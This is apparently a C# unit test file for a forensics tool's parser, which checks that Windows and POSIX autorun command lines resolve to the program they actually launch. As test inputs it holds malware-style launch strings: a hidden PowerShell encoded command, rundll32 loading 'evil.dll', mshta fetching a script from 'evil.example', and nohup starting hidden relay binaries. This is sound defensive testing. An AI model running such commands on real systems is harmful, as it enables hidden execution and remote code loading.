using System;
using System.Collections.Generic;
using System.Text;
using FluxForensics.Host;

namespace FluxForensics.Tests.Autorun
{
    public sealed class CommandLineTests
    {
        private static readonly Dictionary<string, string> Vars = new Dictionary<string, string>(StringComparer.OrdinalIgnoreCase)
        {
            ["ProgramFiles"] = @"C:\Program Files",
            ["APPDATA"] = @"C:\Users\alice\AppData\Roaming",
            ["SystemRoot"] = @"C:\Windows",
        };

        [Fact]
        public void QuotedPathWithSpaces()
        {
            var p = CommandLine.ParseWindows("\"C:\\Program Files\\Windows Sidebar\\Sidebar.exe\" /autoRun");
            Assert.Equal(@"C:\Program Files\Windows Sidebar\Sidebar.exe", p.FinalImage);
            Assert.Equal("/autoRun", p.FinalArguments);
        }

        [Fact]
        public void UnquotedPathWithSpacesAndVariablesIsSplitAtTheExecutable()
        {
            var p = CommandLine.ParseWindows(@"%ProgramFiles%\Windows Sidebar\Sidebar.exe /autoRun", Vars);
            Assert.Equal(@"C:\Program Files\Windows Sidebar\Sidebar.exe", p.FinalImage);
            Assert.Equal("/autoRun", p.FinalArguments);
        }

        [Fact]
        public void UnquotedPathUsesTheShortestExistingPrefixLikeCreateProcess()
        {
            var existing = new HashSet<string>(StringComparer.OrdinalIgnoreCase) { @"C:\Program Files\My App\run" + ".exe" };
            var p = CommandLine.ParseWindows(@"C:\Program Files\My App\run now", null, existing.Contains);
            Assert.Equal(@"C:\Program Files\My App\run.exe", p.FinalImage);
            Assert.Equal("now", p.FinalArguments);
        }

        [Fact]
        public void CmdSlashCIsUnwrappedThroughStart()
        {
            var p = CommandLine.ParseWindows("C:\\Windows\\system32\\cmd.exe /c start \"\" \"%APPDATA%\\mobile7.exe\" -relay", Vars);
            Assert.Equal(@"C:\Users\alice\AppData\Roaming\mobile7.exe", p.FinalImage);
            Assert.Equal(new[] { @"C:\Windows\system32\cmd.exe" }, p.Launchers);
        }

        [Fact]
        public void Rundll32GivesTheDll()
        {
            var p = CommandLine.ParseWindows("rundll32.exe \"C:\\Users\\alice\\AppData\\Local\\x y.dll\",DllMain 1");
            Assert.Equal(@"C:\Users\alice\AppData\Local\x y.dll", p.FinalImage);
            p = CommandLine.ParseWindows(@"rundll32 C:\Temp\evil.dll,#1");
            Assert.Equal(@"C:\Temp\evil.dll", p.FinalImage);
        }

        [Fact]
        public void PowershellEncodedCommandIsDecodedToWhatItRuns()
        {
            string script = "Start-Process 'C:\\Users\\alice\\AppData\\Roaming\\mobile7.exe'";
            string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(script));
            var p = CommandLine.ParseWindows("powershell.exe -NoP -W Hidden -enc " + encoded);
            Assert.Equal(script, p.DecodedCommand);
            Assert.Equal(@"C:\Users\alice\AppData\Roaming\mobile7.exe", p.FinalImage);
            Assert.Single(p.Launchers);
        }

        [Fact]
        public void NestedLaunchersAreAllFollowed()
        {
            string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("& \"C:\\ProgramData\\u.vbs\""));
            var p = CommandLine.ParseWindows("cmd /c powershell -EncodedCommand " + encoded);
            Assert.Equal(@"C:\ProgramData\u.vbs", p.FinalImage);
            Assert.Equal(2, p.Launchers.Count);
        }

        [Fact]
        public void WscriptAndMshtaGiveTheScript()
        {
            Assert.Equal(@"C:\Users\a\x.vbs", CommandLine.ParseWindows(@"wscript.exe //B //Nologo C:\Users\a\x.vbs").FinalImage);
            Assert.Equal("http://evil.example/a.hta", CommandLine.ParseWindows("mshta http://evil.example/a.hta").FinalImage);
        }

        [Fact]
        public void ArgvSplittingFollowsTheMsvcRules()
        {
            Assert.Equal(new[] { "a b", "c\"d", "e\\\\" }, CommandLine.WindowsArguments("\"a b\" c\\\"d \"e\\\\\\\\\""));
        }

        [Theory]
        [InlineData("cd / && run-parts --report /etc/cron.hourly", "run-parts")]
        [InlineData("/bin/sh -c '/tmp/.x/y --go'", "/tmp/.x/y")]
        [InlineData("nohup /home/a/.cache/.m --relay >/dev/null 2>&1 &", "/home/a/.cache/.m")]
        [InlineData("-/usr/bin/foo", "/usr/bin/foo")]
        [InlineData("!!/lib/systemd/systemd-timesyncd", "/lib/systemd/systemd-timesyncd")]
        [InlineData("@/usr/sbin/x x-name --flag", "/usr/sbin/x")]
        [InlineData("SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron")]
        public void PosixCommandsGiveTheProgram(string line, string program)
        {
            Assert.Equal(program, CommandLine.ParsePosix(line).FinalImage);
        }
    }
}
